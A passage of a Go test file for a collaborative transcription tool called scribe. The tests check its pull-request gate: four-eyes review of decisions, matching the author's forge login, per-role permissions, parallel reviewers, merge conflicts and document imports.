			// No reading but rev's has "wordq": the decision says ann's has.
			login:  "rev-gh",
			change: ownPick([]string{"ann"}, decision.Pick),
			// Four-eyes was once checked on the decision's own "readings"
			// list, which nobody recomputed: the row was settled by rev's
			// own reading alone. The support is recomputed now.
			want:    []string{gDec2 + " decisions error", gDec2 + " four-eyes error"},
			fail:    true,
			message: "row 2 is settled by rev's own reading alone",
		},
		{
			name:   "four eyes: the same text typed, naming no support",
			login:  "rev-gh",
			change: ownPick(nil, decision.Typed),
			// A typed decision equal to the reviewer's own reading, with
			// "readings" left empty, once passed four-eyes (page.Decide
			// would have computed the supporters [rev] and refused it).
			want:    []string{gDec2 + " four-eyes error"},
			fail:    true,
			message: "row 2 is settled by rev's own reading alone",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { runGate(t, tc) })
	}
}

// TestGateAuthor: the author is the forge login, matched against login
// only.
func TestGateAuthor(t *testing.T) {
	row1Warnings := []string{gDec1 + " stale warning", gCan1 + " canonical warning", gCan1 + " unsettled warning", gCanD + " canonical warning"}
	annRow1 := func(t *testing.T, r *prRepo) { editRel(t, r.dir, gAnn1, "quick brown fox", "quick brown fax") }
	open := func(t *testing.T, r *prRepo) {
		editRel(t, r.dir, gProj, "open_contributions = false", "open_contributions = true")
		r.commit(t, "max", "open contributions")
	}
	kim := func(t *testing.T, r *prRepo) {
		addPerson(t, r.dir, "kim", "contributor")
		r.commit(t, "max", "welcome kim")
	}
	newReading := func(id string) func(t *testing.T, r *prRepo) {
		return func(t *testing.T, r *prRepo) {
			writeRel(t, r.dir, page1+"/readings/"+id+".txt", fixtureReadings[gAnn1])
		}
	}
	denied := append([]string{gAnn1 + " scope error"}, row1Warnings...)
	tests := []gateCase{
		{name: "the login", change: annRow1, login: "ann-gh", want: row1Warnings},
		{name: "the login in another case", change: annRow1, login: "ANN-GH", want: row1Warnings},
		{name: "the id as login", change: annRow1, login: "ann", want: denied, fail: true, message: `login "ann" is not in project.toml`},
		{name: "the email as login", change: annRow1, login: "ann@example.org", want: denied, fail: true},
		{name: "the name as login", change: annRow1, login: "Ann", want: denied, fail: true},
		{name: "no login", change: annRow1, login: "", want: denied, fail: true},
		{name: "another's login", change: annRow1, login: "ben-gh", want: denied, fail: true, message: "only ann may change ann's reading (ben is contributor)"},
		{name: "the login with a space", change: annRow1, login: "ann-gh ", want: denied, fail: true},
		{name: "ocr changes the OCR's reading", change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gOcr1, "brovvn", "brown") }, login: "ocr",
			want: []string{gOcr1 + " scope error"}, fail: true, message: `only a reviewer may change ocr.txt (login "ocr" is not in project.toml)`},
		{name: "ocr changes the OCR's reading, contributions open", base: open, change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gOcr1, "brovvn", "brown") },
			login: "ocr", want: []string{gOcr1 + " scope error"}, fail: true},
		{name: "OCR changes the OCR's reading, contributions open", base: open, change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gOcr1, "brovvn", "brown") },
			login: "OCR", want: []string{gOcr1 + " scope error"}, fail: true},
		{name: "a maintainer changes the OCR's reading", change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gOcr1, "brovvn", "brown") }, login: "max-gh"},
		// scribe import, a reviewer's job, writes the OCR's reading; only a
		// maintainer deletes it, as anyone else's.
		{name: "a reviewer changes the OCR's reading", change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gOcr1, "brovvn", "brown") }, login: "rita-gh"},
		{name: "a reviewer deletes the OCR's reading", change: func(t *testing.T, r *prRepo) { removeRel(t, r.dir, gOcr1) }, login: "rita-gh",
			want: []string{gOcr1 + " scope error", page1 + " readings-needed warning", gCan1 + " canonical warning", gCanD + " canonical warning"},
			fail: true, message: "only a maintainer may delete the OCR's reading (rita is reviewer)"},
		{name: "an unregistered login, contributions open", base: open, change: newReading("dora"), login: "Dora"},
		{name: "an unregistered login adds another id's reading, contributions open", base: open, change: newReading("zed"), login: "dora",
			want: []string{page1 + "/readings/zed.txt scope error"}, fail: true},
		{name: "an unregistered login that is a registered id, contributions open", base: open, change: newReading("ben"), login: "ben",
			want: []string{gBen1 + " scope error"}, fail: true, message: `only ben may add ben's reading (login "ben" is not in project.toml)`},
		{name: "an unregistered login that is no valid id, contributions open", base: open, login: "con",
			// go-git's work tree refuses con.txt: the branch is written as objects.
			craft: crafted("con", treeEdit{names: at(page1 + "/readings/con.txt"), mode: "100644", data: fixtureReadings[gAnn1]}),
			want:  []string{page1 + "/readings/con.txt scope error", page1 + "/readings/con.txt layout error"}, fail: true},
		{name: "an unregistered login, contributions closed", change: newReading("dora"), login: "dora",
			want: []string{page1 + "/readings/dora.txt scope error", page1 + "/readings/dora.txt contributor error"}, fail: true},
		{
			name:   "a login that folds to a registered one only under Unicode rules",
			base:   kim,
			change: newReading("kim"),
			// U+212A KELVIN SIGN folds to k: a login the forge would never
			// give, since forge logins are ASCII.
			// project.ByLogin once compared with strings.EqualFold (Unicode
			// simple folding) and took this login for kim (login "kim-gh").
			login: "\u212Aim-gh",
			want:  []string{page1 + "/readings/kim.txt scope error"},
			fail:  true,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { runGate(t, tc) })
	}
}

// TestGateParallelReviewers: two reviewers decide different rows of one
// page in parallel pull requests. The second, once the first has landed,
// merges its decisions cleanly; its canonical files, which both rebuilt,
// do not merge, so it fails with "merge" until its author takes in main
// and rebuilds.
func TestGateParallelReviewers(t *testing.T) {
	r := newGateRepo(t)
	// ben reads page 001 and disputes rows 2 and 3; a reviewer rebuilds.
	writeRel(t, r.dir, gBen1, "The quick brown fox\njumps over the lazy cat.\nAnd then the end!\n")
	r.commit(t, "ben", "ben's reading")
	rebuild(t, r.repo)
	r.commit(t, "rev", "rebuild")
	pushCheck(t, r)
	pick := page.Choice{How: decision.Pick, Pick: "ann"}

	r.checkout(t, "pr1", true)
	decideAs(t, r, "rev", "001", 2, pick)
	r.commit(t, "rev", "rev decides row 2")
	r.checkout(t, "main", false)
	r.checkout(t, "pr2", true)
	decideAs(t, r, "rita", "001", 3, pick)
	r.commit(t, "rita", "rita decides row 3")
	r.checkout(t, "main", false)

	res1 := gateCheck(t, r, "pr1", "rev-gh")
	assertVerdict(t, res1, []string{gCan1 + " unsettled warning"}, false, "")
	r.landPR(t, "pr1")
	pushCheck(t, r)

	res2 := gateCheck(t, r, "pr2", "rita-gh")
	// The decisions merge: only the canonical files conflict.
	wantConflicts := []string{gSum1, gCan1, gSumD, gCanD}
	if !reflect.DeepEqual(res2.Conflicts, wantConflicts) {
		t.Errorf("conflicts %q, want %q", res2.Conflicts, wantConflicts)
	}
	// The landed tree has both decisions and rita's side of the canonical
	// files, which a build of both decisions does not give: out of date
	// there (a warning; rita's head, where her build is exact, is where
	// her canonical files are checked strictly). The merge errors fail it.
	assertVerdict(t, res2, []string{
		gCan1 + " merge error", gSum1 + " merge error", gCanD + " merge error", gSumD + " merge error",
		gCan1 + " canonical warning", gCanD + " canonical warning",
	}, true, "do not merge")
	g, err := gitrepo.Open(r.dir)
	if err != nil {
		t.Fatal(err)
	}
	l, err := g.Land(r.tip(t, "main"), r.tip(t, "pr2"))
	if err != nil {
		t.Fatal(err)
	}
	merged, err := fs.ReadFile(l.FS, gDec1)
	if err != nil {
		t.Fatal(err)
	}
	ds, err := decision.Parse(gDec1, merged)
	if err != nil {
		t.Fatalf("the merged decisions: %v\n%s", err, merged)
	}
	var by []string
	for _, d := range ds {
		by = append(by, fmt.Sprintf("%d:%s", d.Row, d.By))
	}
	if want := []string{"1:rev", "2:rev", "3:rita"}; !reflect.DeepEqual(by, want) {
		t.Errorf("merged decisions %q, want %q", by, want)
	}
	// git's own merge agrees: decisions.txt merges, the four canonical
	// files conflict.
	if _, gitConflicts, ok := gitMergeTree(t, r.dir, r.tip(t, "main"), r.tip(t, "pr2")); ok && !reflect.DeepEqual(gitConflicts, sorted(res2.Conflicts)) {
		t.Errorf("git merge-tree conflicts %q, the gate %q", gitConflicts, res2.Conflicts)
	}

	// rita takes in main, keeps the merged decisions and rebuilds.
	r.checkout(t, "pr2", false)
	writeRel(t, r.dir, gDec1, string(merged))
	rebuild(t, r.repo)
	r.mergeInto(t, "rita", "Merge main; rebuild", r.tip(t, "main"))
	r.checkout(t, "main", false)
	res3 := gateCheck(t, r, "pr2", "rita-gh")
	assertVerdict(t, res3, nil, false, "")
	r.landPR(t, "pr2")
	if l := pushCheck(t, r); len(l) != 0 {
		t.Errorf("main after both reviews:%s", dump(l))
	}
	if strings.HasPrefix(readRel(t, r.dir, gCan1), "%% INCOMPLETE") {
		t.Errorf("page 001 is not complete after both reviews:\n%s", readRel(t, r.dir, gCan1))
	}
}

// TestGateLandsGreen is the key property: a pull request that passes the
// gate, landed on main as the forge lands it (a fast-forward, or a merge
// commit when main has moved), never makes the push check on main fail.
func TestGateLandsGreen(t *testing.T) {
	annRow1 := func(t *testing.T, r *prRepo) { editRel(t, r.dir, gAnn1, "quick brown fox", "quick brown fax") }
	benMoves := func(t *testing.T, r *prRepo) {
		editRel(t, r.dir, gBen2, "wordz", "wordy")
		r.commit(t, "ben", "ben's reading (landed meanwhile)")
	}
	importPage3 := func(build bool) func(t *testing.T, r *prRepo) {
		return func(t *testing.T, r *prRepo) {
			addPage(t, r.dir, "003", map[string]string{"ocr": "A third page\nof the book\n"})
			if build {
				rebuild(t, r.repo)
			}
		}
	}
	tests := []gateCase{
		{name: "a contributor's reading on a reviewed page", login: "ben-gh",
			change: func(t *testing.T, r *prRepo) {
				writeRel(t, r.dir, gBen1, "The quick brown fox\njumps over the lazy dog.\nAnd then the end!\n")
			}},
		{name: "a contributor's change to her reading, main moved on", login: "ann-gh", change: annRow1, after: benMoves},
		{name: "a contributor's change to her reading, a maintainer fixed another line", login: "ann-gh", change: annRow1,
			after: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gAnn1, "the end.", "the end!")
				r.commit(t, "max", "a maintainer's fix")
			}},
		{name: "a reviewer's decision and rebuild", login: "rev-gh",
			change: func(t *testing.T, r *prRepo) {
				decideAs(t, r, "rev", "001", 1, page.Choice{How: decision.Typed, Text: "The quick brown fox!"})
			}},
		{name: "a reviewer's rebuild after a contributor's change", login: "rita-gh",
			base: func(t *testing.T, r *prRepo) {
				annRow1(t, r)
				r.commit(t, "ann", "ann's reading")
			},
			change: func(t *testing.T, r *prRepo) {
				decideAs(t, r, "rita", "001", 1, page.Choice{How: decision.Pick, Pick: "ann"})
			}},
		{name: "a reviewer undoes a decision and rebuilds", login: "rita-gh",
			change: func(t *testing.T, r *prRepo) {
				rewriteDecisions(t, r.dir, "002", 2, func([]decision.Decision) []decision.Decision { return nil })
				rebuild(t, r.repo)
			}},
		{name: "a reading on a freshly imported unbuilt page", login: "ann-gh",
			base: func(t *testing.T, r *prRepo) {
				importPage3(false)(t, r)
				r.commit(t, "rev", "import page 003")
			},
			change: func(t *testing.T, r *prRepo) {
				writeRel(t, r.dir, gPage3+"/readings/ann.txt", "A third page\nof the book.\n")
			}},
		{name: "a reading on a freshly imported unbuilt page, main moved on", login: "ann-gh",
			base: func(t *testing.T, r *prRepo) {
				importPage3(false)(t, r)
				r.commit(t, "rev", "import page 003")
			},
			change: func(t *testing.T, r *prRepo) {
				writeRel(t, r.dir, gPage3+"/readings/ann.txt", "A third page\nof the book.\n")
			},
			after: func(t *testing.T, r *prRepo) {
				writeRel(t, r.dir, gPage3+"/readings/ben.txt", "A third page\nof the book\n")
				r.commit(t, "ben", "ben's reading of page 003 (landed meanwhile)")
			}},
		{name: "a maintainer imports and builds a page", login: "max-gh", change: importPage3(true)},
		{name: "a maintainer imports a document", login: "max-gh", change: importDocument},
		{name: "a maintainer's tool change", login: "max-gh",
			change: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gWF, "run: scribe check --pull-request", "run: scribe check --pull-request --strict")
				writeRel(t, r.dir, "workflow/check/pr.go", "package check // better\n")
			}},
		{name: "a maintainer raises the readings required", login: "max-gh",
			change: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gProj, "readings_required = 2", "readings_required = 3")
			}},
		{name: "a maintainer demotes a reviewer who decided nothing", login: "max-gh",
			change: func(t *testing.T, r *prRepo) { setRole(t, r.dir, "rita", "reviewer", "contributor") }},
		{name: "a contributor registered after the branch point", login: "dora-gh",
			change: func(t *testing.T, r *prRepo) { writeRel(t, r.dir, page1+"/readings/dora.txt", fixtureReadings[gAnn1]) },
			after: func(t *testing.T, r *prRepo) {
				addPerson(t, r.dir, "dora", "contributor")
				r.commit(t, "max", "welcome dora")
			}},
		{name: "a pull request that merged main into itself", login: "ann-gh",
			craft: func(t *testing.T, r *prRepo) {
				r.checkout(t, "pr", true)
				annRow1(t, r)
				r.commit(t, "ann", "ann's reading")
				r.checkout(t, "main", false)
				benMoves(t, r)
				r.checkout(t, "pr", false)
				r.copyFrom(t, mainFS(t, r), gBen2)
				r.mergeInto(t, "ann", "Merge main", r.tip(t, "main"))
				r.checkout(t, "main", false)
			}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := setupGate(t, tc)
			before := pushCheck(t, r)
			res := gateCheck(t, r, "pr", tc.login)
			if rep := NewReport("pull-request", res.Pages, res.New, res.Existing); rep.Failed(false) {
				t.Fatalf("the gate fails it:%s", dump(res.New))
			}
			r.landPR(t, "pr")
			after := pushCheck(t, r)
			t.Logf("main's warnings before %d, after %d; the gate's %d", len(before), len(after), len(res.New))
		})
	}
}

// importDocument runs scribe import for a second document of two pages.
func importDocument(t *testing.T, r *prRepo) {
	t.Helper()
	if _, err := ocrimport.Import(context.Background(), r.repo, ocrimport.Options{
		Document: "book", Title: "A Book", Language: "en", File: "book.txt",
		Raw: []byte("The first page\nof the book\n\fThe second page\nof the book\n"),
	}); err != nil {
		t.Fatal(err)
	}
}

// TestGateImport: scribe import by a reviewer and by a maintainer.
func TestGateImport(t *testing.T) {
	byMax := gateCase{name: "a maintainer imports a document", login: "max-gh", change: importDocument}
	r := setupGate(t, byMax)
	res := gateCheck(t, r, "pr", "max-gh")
	if rep := NewReport("pull-request", res.Pages, res.New, res.Existing); rep.Failed(false) {
		t.Fatalf("a maintainer's import fails:%s", dump(res.New))
	}
	want := prFound(res.New)
	t.Logf("a maintainer's import: %q", want)
	t.Run("a reviewer imports a document", func(t *testing.T) {
		// scribe import writes readings/ocr.txt for each page, which the
		// gate once gave to a maintainer only: a reviewer's import always
		// failed, though the README gives import to reviewers.
		runGate(t, gateCase{name: "a reviewer imports a document", login: "rev-gh", change: importDocument, want: want})
	})
}

// TestGateOutdatedByMain: a reviewer's build that main has since put out
// of date (new readings landed on the same document) is work for a
// reviewer, not a hand edit.
func TestGateOutdatedByMain(t *testing.T) {
	decide := func(t *testing.T, r *prRepo) {
		decideAs(t, r, "rita", "001", 1, page.Choice{How: decision.Typed, Text: "The quick brown fox!"})
	}
	// A reviewer's correct build once failed with "the canonical text
	// differs from a fresh build" [canonical error] once a contributor's
	// reading of the same document or page had landed on main since the
	// branch point: the files merge cleanly, but a canonical file the
	// change touched had to equal a fresh build of the landed tree, which
	// holds main's new reading. Text outdated by new input is a warning,
	// as the push check after landing calls it; the build is checked
	// strictly in the pull request's head.
	tests := []gateCase{
		{
			name:   "a reading of another page landed meanwhile",
			change: decide,
			after: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gBen2, "wordz", "wordy")
				r.commit(t, "ben", "ben's reading (landed meanwhile)")
			},
			login:    "rita-gh",
			want:     []string{gCanD + " canonical warning"},
			existing: []string{gDec2 + " stale warning", gCan2 + " canonical warning", gCan2 + " unsettled warning"},
		},
		{
			name:   "a reading of the same page landed meanwhile",
			change: decide,
			after: func(t *testing.T, r *prRepo) {
				writeRel(t, r.dir, gBen1, "The quick brown fox\njumps over the lazy dog.\nAnd then the end!\n")
				r.commit(t, "ben", "ben's reading (landed meanwhile)")
			},
			login: "rita-gh",
			want:  []string{gCan1 + " canonical warning", gCan1 + " unsettled warning", gCanD + " canonical warning"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := setupGate(t, tc)
			res := gateCheck(t, r, "pr", tc.login)
			// Landed anyway, main is only out of date: no error.
			r.landPR(t, "pr")
			pushCheck(t, r)
			runGateChecks(t, tc, r, res)
		})
	}
}

// TestGateProjectInSubfolder: a scribe project in a folder of a larger
// repository (layout.Find looks upwards for it). Paths outside the
// project folder are judged as the tool's side.
func TestGateProjectInSubfolder(t *testing.T) {
	outer := t.TempDir()
	dir, _ := newProject(t, fixtureOpts{ben: true})
	_ = os.Remove(dir + "/.scribe.lock")
	sub := outer + "/sub"
	if err := os.Rename(dir, sub); err != nil {
		t.Fatal(err)
	}
	g, err := git.PlainInitWithOptions(outer, &git.PlainInitOptions{
		InitOptions: git.InitOptions{DefaultBranch: plumbing.NewBranchReferenceName(gitrepo.DefaultBranch)},
	})
	if err != nil {
		t.Fatal(err)
	}
	repo, err := layout.Open(sub)
	if err != nil {
		t.Fatal(err)
	}
	r := &prRepo{dir: outer, repo: repo, git: g, when: decidedAt}
	r.commit(t, "rev", "the base")
	for _, tc := range []struct {
		name, path string
		want       []string
		fail       bool
		message    string
	}{
		{name: "ann's reading in the project", path: "sub/" + gAnn1,
			want: []string{gDec1 + " stale warning", gCan1 + " canonical warning", gCan1 + " unsettled warning", gCanD + " canonical warning"}},
		{name: "ben's reading in the project", path: "sub/" + gBen2,
			want: []string{gBen2 + " scope error", gDec2 + " stale warning", gCan2 + " canonical warning", gCan2 + " unsettled warning", gCanD + " canonical warning"},
			fail: true},
		{name: "a file beside the project", path: "notes.txt", want: []string{"notes.txt scope error"}, fail: true},
		{name: "a workflow of the repository", path: ".github/workflows/x.yml", want: []string{".github/workflows/x.yml scope error"}, fail: true},
		{
			name: "a copy of ann's reading path outside the project", path: gAnn1,
			// Outside the project folder and no tool path: outside the
			// layout. It was once classified as if it were inside the
			// project (ann's own reading, allowed), and the tree check read
			// sub/transcriptions/doc/001/readings/ann.txt instead.
			want:    []string{gAnn1 + " scope error"},
			fail:    true,
			message: "outside the repository layout",
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r.checkout(t, "main", false)
			branch := "pr-" + strings.ReplaceAll(tc.name, " ", "-")
			branch = strings.ReplaceAll(branch, "'", "")
			r.checkout(t, branch, true)
			switch tc.path {
			case "sub/" + gAnn1:
				editRel(t, outer, tc.path, "brown fox", "brown fax")
			case "sub/" + gBen2:
				editRel(t, outer, tc.path, "wordz", "wordy")
			default:
				writeRel(t, outer, tc.path, fixtureReadings[gAnn1])
			}
			r.commit(t, "ann", tc.name)
			r.checkout(t, "main", false)
			res, err := CheckPullRequest(context.Background(), sub, PullRequest{Base: "main", Head: branch, Login: "ann-gh"})
			if err != nil {
				t.Fatal(err)
			}
			assertVerdict(t, res, tc.want, tc.fail, tc.message)
		})
	}
}

// TestGateUnrelatedHistory: a head with no history in common with main
// cannot be judged: an error, not a verdict.
func TestGateUnrelatedHistory(t *testing.T) {
	r := newGateRepo(t)
	c, err := r.git.CommitObject(r.tip(t, "main"))
	if err != nil {
		t.Fatal(err)
	}
	r.craftTreeCommit(t, "pr", "ann", c.TreeHash) // main's tree, no parent
	if res, err := CheckPullRequest(context.Background(), r.dir, PullRequest{Base: "main", Head: "pr", Login: "ann-gh"}); err == nil {
		t.Errorf("no error; verdict:%s", dump(res.New))
	} else if !strings.Contains(err.Error(), "no common history") {
		t.Errorf("error %v", err)
	}
}

// TestGateCopiedDecision: a reviewer copies another reviewer's decision
// onto another row of the page (a refrain that shows the same variants).
// The copy is a new decision of the pull request, though the base holds
// the same decision on its own row: it is not the author's, and its pick
// does not say what ann's reading says there. (It once passed, because
// decisions were compared without their rows.)
func TestGateCopiedDecision(t *testing.T) {
	runGate(t, gateCase{
		name:  "rita copies rev's row-2 decision onto row 4",
		login: "rita-gh",
		base: func(t *testing.T, r *prRepo) {
			writeRel(t, r.dir, page2+"/readings/ocr.txt", "Another page entirely\nwith its own vvords\nMore\nwith its own vvords\n")
			writeRel(t, r.dir, page2+"/readings/ann.txt", "Another page entirely\nwith its own words\nMore\nwith its own vvords\n")
			writeRel(t, r.dir, page2+"/readings/ben.txt", "Another page entirely\nwith its own wordz\nMore\nwith its own words\n")
			rewriteDecisions(t, r.dir, "002", 4, func([]decision.Decision) []decision.Decision { return nil })
			decideAs(t, r, "rev", "002", 2, page.Choice{How: decision.Pick, Pick: "ann"})
			r.commit(t, "rev", "refrain page")
		},
		change: func(t *testing.T, r *prRepo) {
			rewriteDecisions(t, r.dir, "002", 4, func(ds []decision.Decision) []decision.Decision {
				c := ds[0]
				c.Row = 4
				return append(ds, c)
			})
			rebuild(t, r.repo)
		},
		has:     []string{gDec2 + " decision-author error", gDec2 + " decisions error"},
		fail:    true,
		message: "row 4 is recorded as decided by rev, but this pull request is by rita",
	})
}

// TestGateMovedDecision: ann's change to her own reading moves rev's
// decision (a pick of ann's text) to a repeated line where ann's reading
// says something else; the rebuild that writes it there must not land it
// as ann's reading. The contributor's change itself passes (warnings).
func TestGateMovedDecision(t *testing.T) {
	tc := gateCase{name: "ann edits row 2", login: "ann-gh",
		base: func(t *testing.T, r *prRepo) {
			writeRel(t, r.dir, page2+"/readings/ocr.txt", "Another page entirely\nwith its own vvords\nMore\nwith its own vvords\n")
			writeRel(t, r.dir, page2+"/readings/ann.txt", "Another page entirely\nwith its own words\nMore\nwith its own vvords\n")
			writeRel(t, r.dir, page2+"/readings/ben.txt", "Another page entirely\nwith its own wordz\nMore\nwith its own words\n")
			rewriteDecisions(t, r.dir, "002", 4, func([]decision.Decision) []decision.Decision { return nil })
			decideAs(t, r, "rev", "002", 2, page.Choice{How: decision.Pick, Pick: "ann"})
			r.commit(t, "rev", "refrain page")
		},
		change: func(t *testing.T, r *prRepo) {
			editRel(t, r.dir, page2+"/readings/ann.txt", "with its own words\nMore", "with its own wurds\nMore")
		},
	}
	r := setupGate(t, tc)
	res := gateCheck(t, r, "pr", tc.login)
	if NewReport("pull-request", res.Pages, res.New, res.Existing).Failed(false) {
		t.Fatalf("ann's change to her own reading failed:%s", dump(res.New))
	}
	r.landPR(t, "pr")
	r.checkout(t, "pr2", true)
	rebuild(t, r.repo)
	r.commit(t, "rita", "rebuild")
	r.checkout(t, "main", false)
	res = gateCheck(t, r, "pr2", "rita-gh")
	if !slices.ContainsFunc(res.New, func(p *problem.Problem) bool {
		return p.Rule == RuleDecisions && strings.Contains(p.Message, "picks ann's reading, but ann's text in the row is not the decision's text")
	}) {
		t.Errorf("the rebuild that moves rev's pick of ann onto a row where ann says otherwise passed:%s", dump(res.New))
	}
}
